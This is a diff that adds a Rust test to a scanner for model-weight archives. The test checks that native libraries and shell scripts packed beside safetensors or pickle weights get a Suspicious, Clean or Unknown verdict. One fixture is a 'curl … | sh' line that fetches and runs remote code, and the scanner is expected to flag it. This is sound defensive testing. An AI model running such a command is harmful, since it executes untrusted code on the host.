@@ -91,3 +91,49 @@ fn data_that_is_taken_through_a_link_is_told() {
     }
     fs::remove_dir_all(&folder).unwrap();
 }
+
+#[test]
+fn native_code_and_scripts_in_an_archive_of_weights_are_judged_as_beside_a_model() {
+    use crate::corpus::archives::{member, tar, tar_entry, zip};
+    use crate::corpus::pickles::gzip;
+    let elf = [&b"\x7fELF\x02\x01\x01"[..], &[0; 200]].concat();
+    let piped = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n".to_vec();
+    let plain = b"#!/bin/sh\npython3 train.py \"$@\"\n".to_vec();
+    let safetensors = b"\x02\0\0\0\0\0\0\0{}".to_vec();
+    let pickle = b"\x80\x04}\x94.".to_vec();
+    let verdicts = |files: &[(&str, &[u8])]| {
+        let members: Vec<_> = files
+            .iter()
+            .map(|(name, bytes)| member(name, bytes.to_vec()))
+            .collect();
+        let entries: Vec<_> = files
+            .iter()
+            .map(|(name, bytes)| tar_entry(name, b'0', "", bytes))
+            .collect();
+        [("m.zip", zip(&members)), ("m.tar.gz", gzip(&tar(&entries)))].map(|(name, bytes)| {
+            trueline_artifacts::check_bytes(bytes, RepoPath::from(name)).verdict
+        })
+    };
+    for (weights, content) in [
+        ("model.safetensors", &safetensors),
+        ("m/model.joblib", &pickle),
+    ] {
+        for verdict in verdicts(&[(weights, content), ("lib/x.so", &elf)]) {
+            assert_eq!(verdict, Verdict::Suspicious, "{weights}");
+        }
+        for verdict in verdicts(&[(weights, content), ("setup.sh", &piped)]) {
+            assert!(verdict >= Verdict::Suspicious, "{weights}");
+        }
+        for verdict in verdicts(&[(weights, content), ("run.sh", &plain)]) {
+            assert_eq!(verdict, Verdict::Clean, "{weights}");
+        }
+        // An application brings code; what that does is not read.
+        let app = ("AndroidManifest.xml", &b"\x03\0\x08\0"[..]);
+        for verdict in verdicts(&[(weights, content), ("lib/x.so", &elf), app]) {
+            assert_eq!(verdict, Verdict::Unknown, "{weights}");
+        }
+    }
+    for verdict in verdicts(&[("README", b"Read me.\n"), ("lib/x.so", &elf)]) {
+        assert_eq!(verdict, Verdict::Unknown);
+    }
+}
